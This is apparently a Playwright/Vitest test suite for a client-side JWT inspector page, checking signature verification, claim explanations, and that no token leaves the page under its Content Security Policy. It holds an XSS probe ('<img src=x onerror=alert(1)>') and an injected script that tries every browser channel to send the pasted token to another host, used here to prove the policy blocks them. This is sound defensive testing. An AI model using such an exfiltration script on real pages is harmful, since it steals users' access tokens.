import { once } from 'node:events'
import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { exportJWK, exportSPKI, generateKeyPair, type JWTPayload, SignJWT } from 'jose'
import type { Browser, BrowserContextOptions, Page } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { launch, look, type Visitor, visit } from '../support/chromium.ts'
import { API, OTHER_API } from '../support/fixtures.ts'
import { flipEach } from '../support/flip.ts'
import type { Tokens } from '../support/house.ts'
import { type RunningWorker, startWorker } from '../support/running-worker.ts'

let browser: Browser
let house: RunningWorker
let tokens: Tokens
let rs256: Tokens
beforeAll(async () => {
  browser = await launch()
  house = await startWorker()
  tokens = await house.tokens()
  rs256 = await house.tokens({ client_id: 'web-rs256' })
}, 60_000)
afterAll(async () => {
  await browser?.close()
  await house?.stop()
})

async function open(options: BrowserContextOptions = {}): Promise<Visitor> {
  const visitor = await visit(browser, [house.issuer], options)
  await visitor.page.goto(`${house.issuer}/tools/jwt`)
  return visitor
}

/** Pastes a token and waits until something else than before is said of it. */
async function paste(page: Page, token: string): Promise<string> {
  const verdict = page.getByRole('status')
  await page.getByLabel('Token', { exact: true }).fill('')
  await verdict.getByText('Paste a token').waitFor()
  await page.getByLabel('Token', { exact: true }).fill(token)
  await verdict.getByText(/signature|signed|JWT/).waitFor()
  return (await verdict.textContent()) ?? ''
}

const reasons = (page: Page) => page.locator('#findings .bad strong').allTextContents()
const valueOf = (page: Page, claim: string) =>
  page.locator('#claims > div', { has: page.locator(`dt:text-is("${claim}")`) }).locator('.value')

const seconds = () => Math.floor(Date.now() / 1000)

/** A token of somebody else's, by default one that could not be better. */
async function foreign(alg: 'ES256' | 'RS256' | 'EdDSA', claims: JWTPayload = {}, typ = 'at+jwt') {
  const { privateKey, publicKey } = await generateKeyPair(alg, { extractable: true })
  const all = { iss: 'https://else.example', aud: API, iat: seconds(), exp: seconds() + 300 }
  const token = await new SignJWT({ ...all, ...claims })
    .setProtectedHeader({ alg, typ, kid: 'theirs' })
    .sign(privateKey)
  return {
    token,
    jwk: JSON.stringify(await exportJWK(publicKey)),
    pem: await exportSPKI(publicKey),
  }
}

async function pasteKey(page: Page, key: string, expected: RegExp) {
  const field = page.getByLabel('Public key')
  if (!(await field.isVisible())) await page.getByText('Check with another key').click()
  await field.fill(key)
  await page.locator('#findings').getByText(expected).waitFor()
}

describe('the token inspector', () => {
  it('takes an access token apart, explains it and checks it by the keys of the page', async () => {
    const { context, page, complaints } = await open()
    expect(await paste(page, `Authorization: Bearer ${tokens.access_token}\n`)).toBe(
      'The signature is valid. Nothing seen here would make an API refuse it.',
    )
    expect(await valueOf(page, 'iss').textContent()).toBe(house.issuer)
    expect(await valueOf(page, 'exp').textContent()).toMatch(/^expires in 1[45] minutes$/)
    expect(await valueOf(page, 'iat').textContent()).toMatch(/^issued .* ago$/)
    expect(await valueOf(page, 'scope').locator('.chip').allTextContents()).toContain('notes:read')
    expect(await page.getByText('Whom it is meant for. Everybody else').isVisible()).toBe(true)
    expect(await reasons(page)).toEqual([])
    expect(complaints).toEqual([])
    await context.close()
  })

  it('RFC 7515 §5.2 finds a changed character in each part', async () => {
    const { context, page, complaints } = await open()
    const flipped = flipEach(tokens.access_token)
    const [header = '', payload = ''] = tokens.access_token.split('.')
    // within a string of the claims, so that they still are JSON
    const inPayload = header.length + payload.length - 8
    for (const at of [inPayload, flipped.length - 20]) {
      expect(await paste(page, flipped[at] ?? '')).toContain('The signature is wrong.')
      expect(await reasons(page)).toContain('The signature is wrong')
    }
    expect(await paste(page, flipped[1] ?? '')).toMatch(/header is not a JSON object|signature/)
    expect(complaints).toEqual([])
    await context.close()
  })

  it('OpenID Connect Core §2 tells an ID token from an access token, whatever it is signed with', async () => {
    const { context, page, complaints } = await open()
    for (const { id_token } of [tokens, rs256]) {
      const said = await paste(page, id_token)
      expect(said).toBe('The signature is valid. There is one reason why an API would refuse it.')
      expect(await reasons(page)).toEqual(['This is an ID token'])
    }
    expect(complaints).toEqual([])
    await context.close()
  })

  it('RFC 9068 §4 compares issuer, audience and scope with what the API expects', async () => {
    const { context, page, complaints } = await open()
    await page.getByLabel('Issuer').fill(`${house.issuer}/`)
    await page.getByLabel('Audience').fill(OTHER_API)
    await page.getByLabel('Scopes it needs').fill('notes:read notes:delete')
    expect(await paste(page, tokens.access_token)).toContain('There are 3 reasons')
    expect(await reasons(page)).toEqual([
      'The issuer differs by a slash',
      'It is meant for somebody else',
      'A permission is missing',
    ])
    expect(await page.getByText('It lacks notes:delete.').isVisible()).toBe(true)
    await page.getByLabel('Issuer').fill('')
    await page.getByLabel('Audience').fill(API)
    await page.getByLabel('Scopes it needs').fill('notes:read')
    await page.getByText('Nothing seen here').waitFor()
    expect(complaints).toEqual([])
    await context.close()
  })

  it.each(['ES256', 'RS256', 'EdDSA'] as const)(
    'RFC 7517 §4 checks a token of somebody else by a pasted JWK or PEM (%s)',
    async (alg) => {
      const { context, page, complaints } = await open()
      const { token, jwk, pem } = await foreign(alg)
      const other = await foreign(alg)
      await page.getByLabel('Issuer').fill('')
      expect(await paste(page, token)).toContain('could not be checked')
      expect(await reasons(page)).toEqual(['The key is not one of ours'])
      await pasteKey(page, jwk, /The key you pasted belongs/)
      await pasteKey(page, other.pem, /The signature is wrong/)
      await pasteKey(page, pem, /The key you pasted belongs/)
      await pasteKey(page, `{"keys":[${other.jwk},${jwk}]}`, /The key you pasted belongs/)
      await pasteKey(page, 'nonsense', /cannot be used/)
      expect(complaints).toEqual([])
      await context.close()
    },
  )

  it('RFC 7519 §4.1.4 says when a token has expired, and §4.1.5 when one begins', async () => {
    const { context, page, complaints } = await open()
    await page.getByLabel('Issuer').fill('')
    const old = await foreign('ES256', { exp: seconds() - 200 })
    await paste(page, old.token)
    await pasteKey(page, old.jwk, /The key you pasted belongs/)
    expect(await reasons(page)).toEqual(['It has expired'])
    expect(await valueOf(page, 'exp').textContent()).toBe('expired 3 minutes ago')
    const early = await foreign('ES256', { nbf: seconds() + 7300 })
    await paste(page, early.token)
    await pasteKey(page, early.jwk, /The key you pasted belongs/)
    expect(await reasons(page)).toEqual(['It is not valid yet'])
    expect(await page.getByText('It becomes valid in 2 hours.').isVisible()).toBe(true)
    expect(complaints).toEqual([])
    await context.close()
  })

  it('shows markup in a token as text', async () => {
    const { context, page, complaints } = await open()
    const markup = '<img src=x onerror=alert(1)>'
    const { token } = await foreign('ES256', { [markup]: markup, sub: markup, __proto__: markup })
    await paste(page, token)
    expect(await valueOf(page, 'sub').textContent()).toBe(markup)
    expect(await page.locator('#inspector img').count()).toBe(0)
    expect(complaints).toEqual([])
    await context.close()
  })

  it('without JavaScript says why it needs it', async () => {
    const { context, page, complaints } = await open({ javaScriptEnabled: false })
    expect(await page.getByText('This page needs JavaScript.').isVisible()).toBe(true)
    expect(await page.locator('textarea:visible, input:visible').count()).toBe(0)
    await look(page, 'inspector-without-javascript')
    expect(complaints).toEqual([])
    await context.close()
  })

  it('is fit to be looked at, with nothing in it and with much', async () => {
    const { context, page, complaints } = await open()
    await look(page, 'inspector-empty')
    await paste(page, tokens.access_token)
    await look(page, 'inspector-valid')
    await page.getByLabel('Audience').fill(OTHER_API)
    await paste(page, flipEach(tokens.id_token).at(-20) ?? '')
    await pasteKey(page, 'nonsense', /cannot be used/)
    await look(page, 'inspector-refused')
    expect(complaints).toEqual([])
    await context.close()
  })
})

/** Every way a page can speak, tried by a script that has got into it. Each answers what came of it. */
const escapes = (to: string) => `(async () => {
  const token = document.getElementById('token').value
  const url = ${JSON.stringify(to)} + '?token=' + token
  const blocked = []
  document.addEventListener('securitypolicyviolation', (event) =>
    blocked.push(event.effectiveDirective))
  const element = (tag, members) => {
    const made = Object.assign(document.createElement(tag), members)
    document.body.append(made)
    return made
  }
  const tried = {
    fetch: await fetch(url).then(() => 'sent', () => 'refused'),
    keepalive: await fetch(url, { method: 'POST', body: token, keepalive: true, mode: 'no-cors' })
      .then(() => 'sent', () => 'refused'),
    image: await new Promise((resolve) => {
      const image = new Image()
      image.onload = () => resolve('sent')
      image.onerror = () => resolve('refused')
      image.src = url
    }),
    xhr: await new Promise((resolve) => {
      const request = new XMLHttpRequest()
      request.onload = () => resolve('sent')
      request.onerror = () => resolve('refused')
      request.open('POST', url)
      request.send(token)
    }),
    webSocket: await new Promise((resolve) => {
      try {
        const socket = new WebSocket(url.replace('http', 'ws'))
        socket.onopen = () => resolve('sent')
        socket.onerror = () => resolve('refused')
      } catch {
        resolve('refused')
      }
    }),
    eventSource: await new Promise((resolve) => {
      const source = new EventSource(url)
      source.onopen = () => resolve('sent')
      source.onerror = () => { source.close(); resolve('refused') }
    }),
  }
  navigator.sendBeacon(url, token)
  const form = element('form', { action: url, method: 'post', target: '_self' })
  form.append(Object.assign(document.createElement('input'), { name: 'token', value: token }))
  form.submit()
  element('iframe', { src: url })
  element('object', { data: url })
  element('video', { src: url })
  element('link', { rel: 'prefetch', href: url })
  element('link', { rel: 'manifest', href: url })
  element('a', { ping: url, href: '#ping' }).click()
  const style = element('p', {})
  style.style.backgroundImage = 'url(' + url + ')'
  const face = new FontFace('x', 'url(' + url + ')')
  await face.load().catch(() => {})
  await new Promise((resolve) => setTimeout(resolve, 1000))
  return { tried, blocked }
})()`

describe('nothing leaves the token inspector', () => {
  let witness: Server
  let heard: string[]
  beforeAll(async () => {
    heard = []
    witness = createServer((request, response) => {
      heard.push(`${request.method} ${request.url}`)
      response.setHeader('Access-Control-Allow-Origin', '*').end('heard')
    })
    witness.on('connection', () => heard.push('a connection'))
    await once(witness.listen(0, '127.0.0.1'), 'listening')
  })
  afterAll(() => witness.close())

  it('CSP Level 3 §6.1 pasting a token, a key and expectations sends no request at all', async () => {
    const { context, page, complaints } = await open()
    await page.waitForLoadState('networkidle')
    const requests: string[] = []
    context.on('request', (request) => requests.push(request.url()))
    page.on('websocket', (socket) => requests.push(socket.url()))
    await paste(page, tokens.access_token)
    await page.getByLabel('Audience').fill(API)
    await page.getByLabel('Audience').press('Enter')
    await pasteKey(page, (await foreign('ES256')).pem, /The signature is wrong/)
    await page.waitForTimeout(1000)
    expect(requests).toEqual([])
    expect(new URL(page.url()).search).toBe('')
    expect(await page.evaluate('[document.cookie, ...Object.keys(localStorage)].join("")')).toBe('')
    expect(complaints).toEqual([])
    await context.close()
  })

  it.each(['elsewhere', 'home'] as const)(
    'CSP Level 3 §6.1 not even a script inside it could send the token %s: all ways are tried',
    async (where) => {
      const { context, page } = await open()
      await paste(page, tokens.access_token)
      const to =
        where === 'home'
          ? `${house.issuer}/escaped`
          : `http://localhost:${(witness.address() as AddressInfo).port}/escaped`
      const answered: string[] = []
      context.on('response', (response) => answered.push(response.url()))
      const { tried, blocked } = (await page.evaluate(escapes(to))) as {
        tried: Record<string, string>
        blocked: string[]
      }
      expect(Object.entries(tried).filter(([, result]) => result !== 'refused')).toEqual([])
      const connects = blocked.filter((directive) => directive === 'connect-src')
      // fetch twice, XMLHttpRequest, WebSocket, EventSource, beacon, ping
      expect(connects.length).toBeGreaterThanOrEqual(7)
      expect(blocked).toEqual(
        expect.arrayContaining([
          'img-src',
          'form-action',
          'frame-src',
          'object-src',
          'media-src',
          'font-src',
        ]),
      )
      expect(answered).toEqual([])
      expect(heard).toEqual([])
      expect(page.url()).toMatch(/\/tools\/jwt(#ping)?$/)
      await context.close()
    },
  )

  it('the witness does hear who speaks to it', async () => {
    await fetch(`http://localhost:${(witness.address() as AddressInfo).port}/hello`)
    expect(heard).toContain('GET /hello')
  })
})
